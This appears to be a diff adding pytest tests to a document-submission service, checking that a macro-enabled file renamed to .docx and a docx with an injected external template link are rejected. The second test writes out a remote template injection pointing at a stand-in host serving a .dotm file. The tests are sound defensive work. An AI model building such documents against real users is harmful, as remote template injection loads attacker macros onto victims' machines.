@@ -107,3 +107,40 @@ def test_several_files_at_once(people, template_of, tmp_path: Path) -> None:
     rows = alpha.get("/api/submissions").json()
     assert sorted(r["file"] for r in rows) == ["0.docx", "1.docx", "2.docx"]
     assert {r["status"] for r in rows} == {"received"} and len({r["case"] for r in rows}) == 3
+
+
+def _repacked(source: bytes, changes: dict[str, bytes]) -> bytes:
+    """The package ``source`` with parts added or replaced."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
+        for info in old.infolist():
+            if info.filename not in changes:
+                new.writestr(info, old.read(info.filename))
+        for name, data in changes.items():
+            new.writestr(name, data)
+    return buffer.getvalue()
+
+
+def test_a_macro_enabled_document_renamed_docx_is_refused_by_its_content(people) -> None:
+    alpha = client_of(people["alpha"])
+    _send(alpha, "看似正常.docx", (CORPUS / "poi__c665d4__SimpleMacro.docm").read_bytes())
+    item = _checked(alpha)
+    assert [e["code"] for e in item["errors"]] == ["SB030"] and item["case"] is None
+    assert "Word 文档（*.docx）" in item["errors"][0]["hint"]
+
+
+def test_a_document_fetching_a_template_from_elsewhere_is_refused_saying_what_to_send(
+        people, template_of, tmp_path: Path) -> None:
+    filled = filled_docx(template_of(people["alpha"]), tmp_path, "远程模板.docx").read_bytes()
+    with zipfile.ZipFile(io.BytesIO(filled)) as package:
+        rels = package.read("word/_rels/settings.xml.rels") if "word/_rels/settings.xml.rels" in package.namelist() \
+            else b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    remote = (b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+              b'attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/></Relationships>')
+    sent = _repacked(filled, {"word/_rels/settings.xml.rels": rels.replace(b"</Relationships>", remote)})
+    alpha = client_of(people["alpha"])
+    _send(alpha, "远程模板.docx", sent)
+    item = _checked(alpha)
+    assert [e["code"] for e in item["errors"]] == ["SB044"] and item["case"] is None
+    assert "文档模板" in item["errors"][0]["message"] and "http://203.0.113.7/t.dotm" in item["errors"][0]["message"]
+    assert "重新下载案例模板" in item["errors"][0]["hint"]
